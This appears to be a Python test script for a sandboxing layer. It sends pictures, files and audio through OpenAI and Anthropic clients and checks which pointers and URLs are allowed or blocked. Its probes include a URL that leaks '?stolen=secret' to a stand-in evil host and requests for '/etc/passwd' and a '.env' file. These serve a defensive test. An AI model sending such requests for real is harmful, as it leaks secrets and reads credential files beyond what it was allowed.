"""An unmodified program that sends pictures and files with the clients of both vendors, some by a pointer or a URL."""

import base64
import hashlib
import json
import sys
from typing import Any

import anthropic
import openai
from ringfence import agent

PICTURE = b"\x89PNG\r\n\x1a\n" + hashlib.sha256(b"a picture").digest() * 60_000
CODED = base64.b64encode(PICTURE).decode()
SHORT = base64.b64encode(PICTURE[:300]).decode()
gpt, claude = openai.OpenAI(max_retries=0), anthropic.Anthropic(max_retries=0)


def say(name: str, what: Any) -> None:
    print(json.dumps([name, what]), flush=True)


def chat(*parts: Any) -> Any:
    user: Any = [{"role": "user", "content": [{"type": "text", "text": "what is it?"}, *parts]}]
    return (
        gpt.chat.completions.create(model="gpt-4o", messages=user, max_tokens=20).choices[0].message.content
    )


def message(*parts: Any) -> Any:
    user: Any = [{"role": "user", "content": [{"type": "text", "text": "what is it?"}, *parts]}]
    return claude.messages.create(model="claude-sonnet-4-5", messages=user, max_tokens=20).content


def shown(url: str) -> Any:
    return {"type": "image_url", "image_url": {"url": url}}


def tried(name: str, call: Any) -> None:
    try:
        call()
    except (openai.APIStatusError, anthropic.APIStatusError) as error:
        body: Any = error.body
        said = body.get("error", body)
        say(name, [error.status_code, said["message"]])
    else:
        say(name, "sent")


def turns() -> None:
    """The same picture with every turn, in three protocols."""
    user: Any = [{"role": "user", "content": [shown(f"data:image/png;base64,{CODED}")]}]
    for _ in range(2):
        said = (
            gpt.chat.completions.create(model="gpt-4o", messages=user, max_tokens=20)
            .choices[0]
            .message.content
        )
        user += [{"role": "assistant", "content": said}, {"role": "user", "content": "and now?"}]
    item: Any = {"type": "input_image", "image_url": f"data:image/png;base64,{CODED}", "detail": "low"}
    asked: Any = [{"role": "user", "content": [item]}]
    gpt.responses.create(model="gpt-4o", input=asked, max_output_tokens=20)
    source = {"type": "base64", "media_type": "image/png", "data": CODED}
    message({"type": "image", "source": source})
    chat({"type": "text", "text": POINTER}, shown(f"data:image/png;base64,{SHORT}"))
    say("turns", "done")


POINTER = f"ringfence://artifacts/sent.{hashlib.sha256(PICTURE).hexdigest()}?base64={len(PICTURE)}"


def pointed() -> None:
    """Its own artifacts and files, by pointers."""
    rf.artifacts.put("logo", PICTURE[:300], media_type="image/png")
    rf.artifacts.put("hidden", PICTURE[:300], media_type="image/png")
    artifact, file = "ringfence://artifacts/logo", "ringfence://workspace/pictures/a%20b.png"
    chat(shown(artifact), shown(file))
    item: Any = {"type": "input_file", "file_url": file}
    gpt.responses.create(model="gpt-4o", input=[{"role": "user", "content": [item]}], max_output_tokens=20)
    message(
        {"type": "image", "source": {"type": "url", "url": artifact}},
        {"type": "document", "source": {"type": "url", "url": "ringfence://workspace/notes.txt"}},
    )
    tried("no artifact", lambda: chat(shown("ringfence://artifacts/none")))
    tried("no rule", lambda: chat(shown("ringfence://artifacts/hidden")))
    tried("no file", lambda: chat(shown("ringfence://workspace/pictures/none.png")))
    tried("denied file", lambda: chat(shown("ringfence://workspace/.env")))
    tried("no kind", lambda: chat(shown("file:///etc/passwd")))


def fetched() -> None:
    """URLs that a host would fetch by itself."""
    tried("allowed", lambda: chat(shown("https://Pictures.example/a/b.png?size=2")))
    tried("elsewhere", lambda: chat(shown("https://evil.example/?stolen=secret")))
    url: Any = {"type": "image", "source": {"type": "url", "url": "https://evil.example/b.png"}}
    tried("messages", lambda: message(url))
    item: Any = {"type": "input_image", "image_url": "https://evil.example/c.png", "detail": "low"}
    asked: Any = [{"role": "user", "content": [item]}]
    tried("responses", lambda: gpt.responses.create(model="gpt-4o", input=asked))


def spoken() -> None:
    """A reply with sound in it, whole and in parts, and the next turn with it."""
    user: Any = [{"role": "user", "content": "say it"}]
    said = gpt.chat.completions.create(model="gpt-4o", messages=user, max_tokens=20).choices[0].message
    assert said.audio
    say("spoken", [said.content, said.audio.id, said.audio.data == CODED])
    user += [said.model_dump(exclude_none=True), {"role": "user", "content": "again"}]
    chat = gpt.chat.completions.create(model="gpt-4o", messages=user, max_tokens=20)
    say("and then", chat.choices[0].message.content)


with agent.boot() as rf:
    for word in sys.stdin.read().split():
        if word == "wait":
            say("waits", 1)
            rf.messages.receive()
        else:
            {"turns": turns, "pointed": pointed, "fetched": fetched, "spoken": spoken}[word]()
